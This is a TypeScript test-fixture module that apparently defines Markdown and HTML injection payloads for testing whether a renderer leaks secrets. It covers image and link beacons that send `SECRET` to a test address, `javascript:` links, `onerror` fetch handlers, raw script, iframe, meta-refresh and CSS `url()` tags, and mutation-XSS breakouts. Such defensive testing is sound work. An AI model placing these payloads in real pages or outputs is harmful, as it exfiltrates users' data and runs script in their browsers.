import { Marked } from 'marked';
import type { Addresses, Payload } from '../payload.ts';
import { pressed, writtenInPage, type HostileMarkup } from './shownMarkup.ts';

/** Any page that shows Markdown as it is read. */
const ordinary = new Marked({ gfm: true, async: false });

/** Prose with `SECRET` where the secret goes: here by `${secret}`, in an ordinary page as it is. */
const prose = (
	id: string,
	channel: string,
	markdown: HostileMarkup['markup'],
	rest: Partial<Payload> = {}
): Payload => ({
	id,
	channel,
	realm: 'markdown',
	cells: (at) => `<!-- cell -->\n\n${markdown(at).replaceAll('SECRET', '${secret}')}\n`,
	control: writtenInPage((at) => ordinary.parse(markdown(at), { async: false })),
	...rest
});

/** A value that is markup, put into prose: `VALUE` stands for it there. */
function valued(
	id: string,
	value: HostileMarkup['markup'],
	around: string,
	rest: Partial<Payload> = {}
): Payload {
	const name = id.replaceAll('-', '_');
	const whole = (at: Addresses) => around.replaceAll('VALUE', value(at));
	return {
		id,
		channel: 'value in prose',
		realm: 'markdown',
		cells: (at) =>
			`\`\`\`ts\nconst ${name} = ${JSON.stringify(value(at))}.replaceAll('SECRET', secret)\n\`\`\`\n\n${around.replaceAll('VALUE', `\${${name}}`)}\n`,
		control: writtenInPage((at) => ordinary.parse(whole(at), { async: false })),
		...rest
	};
}

const click = pressed('a, .prose p:not(:has(a))');

/** As in an output, but without the ticks that are code in Markdown. */
const act = ({ http }: Addresses) => `window.__executed=fetch('${http}?SECRET')`;

/** Text cells, their raw HTML, and the values that are put into them. */
export const markdown: readonly Payload[] = [
	prose('md-image', 'Markdown image', ({ http }) => `![x](${http}?SECRET)`),
	prose('md-image-reference', 'Markdown image', ({ http }) => `![x][r]\n\n[r]: ${http}?SECRET`),
	prose('md-image-in-link', 'Markdown image', ({ http }) => `[![x](${http}?SECRET)](#x "t")`),
	prose(
		'md-image-title',
		'Markdown image',
		(at) => `![x](data:x "\\"onerror=x()\\"") <img src=data:x onerror="${act(at)}">`
	),
	prose('md-link', 'Markdown link', ({ http }) => `[read on](${http}?SECRET)`, click),
	prose(
		'md-link-reference',
		'Markdown link',
		({ http }) => `[read on][q]\n\n[q]: <${http}?SECRET> 'title'`,
		click
	),
	prose('md-autolink', 'Markdown link', ({ http }) => `<${http}?SECRET>`, click),
	prose('md-bare-link', 'Markdown link', ({ http }) => `Look at ${http}?SECRET`, click),
	prose('md-link-javascript', 'javascript:', (at) => `[x](<javascript:${act(at)}>)`, click),
	prose('md-link-entities', 'javascript:', (at) => `[x](<&#x6A;avascript&colon;${act(at)}>)`, click),
	prose('md-heading', 'raw HTML', (at) => `# x <img src=data:x onerror="${act(at)}">`),
	prose('md-table', 'raw HTML', ({ http }) => `| a |\n| - |\n| <img src="${http}?SECRET"> |`),
	prose('md-list', 'raw HTML', ({ http }) => `- [ ] <img src="${http}?SECRET">`),
	prose('md-raw-style', 'raw HTML', ({ http }) => `<style>@import url(${http}x.css?SECRET);</style>\n\nx`),
	prose('md-raw-script', 'raw HTML', (at) => `<script>${act(at)}</script>`),
	prose('md-raw-iframe', 'raw HTML', ({ http }) => `<iframe src="${http}?SECRET"></iframe>`),
	prose(
		'md-raw-meta',
		'raw HTML',
		({ http }) => `<meta http-equiv="refresh" content="0; url=${http}?SECRET">`
	),
	prose(
		'md-raw-crlf',
		'CSS url()',
		({ http }) => `<p style="background: u\\72&#13;&#10;l(${http}?SECRET)">x</p>`
	),
	prose('md-comment', 'mutation XSS', (at) => `<!--> <img src=data:x onerror="${act(at)}"> -->`),
	prose(
		'md-code-in-html',
		'mutation XSS',
		(at) => `<p title="\`">\n<img src=data:x onerror="${act(at)}">\n"\`</p>`
	),
	prose(
		'md-code-fence',
		'mutation XSS',
		(at) =>
			`<div>\n\n~~~html" onmouseover="x\n</code></pre>\n~~~\n\n</div><img src=data:x onerror="${act(at)}">`
	),
	prose('md-emphasis', 'mutation XSS', (at) => `**<b title="**">** <img src=data:x onerror="${act(at)}">`),
	valued('value-markup', (at) => `<img src=data:x onerror="${act(at)}">`, 'Is VALUE it'),
	valued('value-image', ({ http }) => `![x](${http}?SECRET)`, 'Is VALUE it'),
	valued('value-link', ({ http }) => `[x](${http}?SECRET)`, 'Is VALUE it', click),
	valued('value-address', ({ http }) => `${http}?SECRET`, '![x](VALUE)'),
	valued('value-link-address', ({ http }) => `${http}?SECRET`, '[x](VALUE)', click),
	valued('value-bare-address', ({ http }) => `${http}?SECRET`, 'Is VALUE it', click),
	valued('value-reference', ({ http }) => `${http}?SECRET`, '![x][v]\n\n[v]: VALUE'),
	valued('value-block', (at) => `\n\n<img src=data:x onerror="${act(at)}">\n\n`, 'Is\n\nVALUE'),
	valued('value-in-attribute', (at) => `"><img src=data:x onerror="${act(at)}">`, '<p title="VALUE">x</p>'),
	valued('value-in-src', ({ http }) => `${http}?SECRET`, '<img src="VALUE">'),
	valued('value-in-style', ({ http }) => `url(${http}?SECRET)`, '<p style="background: VALUE">x</p>'),
	valued('value-in-comment', (at) => `--><img src=data:x onerror="${act(at)}">`, '<!-- VALUE -->')
];
